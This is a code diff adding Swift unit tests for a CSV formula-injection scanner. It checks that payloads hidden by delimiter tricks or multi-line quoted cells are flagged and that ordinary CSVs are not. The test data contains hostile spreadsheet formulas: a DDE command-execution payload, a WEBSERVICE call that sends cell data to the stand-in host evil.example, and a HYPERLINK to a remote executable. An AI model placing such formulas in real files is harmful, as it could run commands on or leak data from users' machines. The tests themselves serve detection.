@@ -142,4 +142,46 @@ struct FormulaTests {
             #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
         }
     }
+
+    /// Round 3: Excel splits at exactly one delimiter, so a `;`, tab or `,` inside a cell must not open a quoted
+    /// cell that hides the real formula cell; generated over delimiters, payloads and the `sep=` line.
+    @Test func eachDelimiterIsReadAlone() {
+        let payloads = [#"=cmd|' /C calc'!A0"#, #"=WEBSERVICE("http://evil.example/?"&A1)"#, #"=HYPERLINK("\\evil\s\x.exe","go")"#]
+        for payload in payloads {
+            for (real, inner) in [(",", ";"), (",", "\t"), (";", ","), ("\t", ";"), ("\t", ",")] {
+                let csv = "id\(real)comment\(real)total\n1\(real)a\(inner)\"x\(real)\(payload)\(real)\"\(inner)b\n2\(real)ok\(real)3\n"
+                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+                #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
+            }
+            let declared = "sep=|\nid|comment|total\n1|a,\"x|\(payload)|\"|3\n"
+            #expect(payload.contains("|") || !TextActiveContent.findings(in: Array(declared.utf8), csv: true).isEmpty, "\(declared.debugDescription)")
+        }
+        // Ordinary files with every delimiter in text stay clean.
+        for csv in [
+            "name;city;note\nAnn;\"Paris, France\";\"a, b; c\"\nBob;Rome;=SUM(A1:A2)\n", "a,b\tc;d\n\"x;y\",-3,\"+1, 2\"\n",
+            "sep=;\na;b\n\"1,5\";=A1*2\n",
+        ] {
+            #expect(TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+        }
+    }
+
+    /// Round 3: a quoted cell runs across lines in Excel; text that is CSV under another name is read both ways.
+    @Test func quotedCellsSpanLines() {
+        for payload in [#"=cmd|' /C calc'!A0"#, #"=WEBSERVICE("http://evil.example/?"&A2)"#, #"=HYPERLINK("\\evil\s\x.exe","Invoice")"#] {
+            for break_ in ["\n", "\r\n", "\n\n"] {
+                let csv = "name,note\nalice,\"first line\(break_)\",\(payload)\nbob,ok\n"
+                #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+                #expect(!TextActiveContent.findings(in: Array(csv.utf8)).isEmpty, "\(csv.debugDescription)")
+            }
+        }
+        // Multi-line addresses and notes are ordinary.
+        let addresses = "name,address,total\nAnn,\"1 Main St\nSpringfield, IL\",=SUM(C1:C2)\nBob,\"Flat 2\r\n\"\"The Mews\"\"\",-4\n"
+        #expect(TextActiveContent.findings(in: Array(addresses.utf8), csv: true).isEmpty)
+        #expect(TextActiveContent.findings(in: Array(addresses.utf8)).isEmpty)
+        // CSV rules follow the name or the declared type whatever libmagic says.
+        #expect(Inspector.isNamedCSV(filename: "Report.CSV", declaredType: nil))
+        #expect(Inspector.isNamedCSV(filename: "x.tsv", declaredType: nil))
+        #expect(Inspector.isNamedCSV(filename: "x.txt", declaredType: "text/csv; charset=utf-8"))
+        #expect(!Inspector.isNamedCSV(filename: "notes.txt", declaredType: "text/plain"))
+    }
 }
